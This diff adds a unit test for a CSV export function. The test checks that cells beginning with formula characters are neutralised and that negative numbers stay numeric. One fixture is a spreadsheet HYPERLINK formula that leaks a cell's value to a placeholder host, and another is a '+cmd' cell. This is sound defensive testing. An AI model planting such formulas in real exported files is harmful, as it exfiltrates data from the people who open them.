@@ -28,6 +28,16 @@ describe('toCsv', () => {
     expect(csv.startsWith('\uFEFF')).toBe(true)
     expect(csv.slice(1).split('\r\n')).toEqual(['Đơn vị,Chỉ số', 'Huyện Thạnh Hóa,80.1', '"A, ""B""",', ''])
   })
+
+  it('neutralises formula-leading cells and keeps negative numbers numeric', () => {
+    const csv = toCsv(['Đơn vị', 'Thay đổi'], [['=HYPERLINK("http://x?leak="&A1,"click")', -5.35], ['+cmd', -2]])
+    expect(csv.slice(1).split('\r\n')).toEqual([
+      'Đơn vị,Thay đổi',
+      `"'=HYPERLINK(""http://x?leak=""&A1,""click"")",-5.35`,
+      "'+cmd,-2",
+      '',
+    ])
+  })
 })
 
 describe('legend layout', () => {
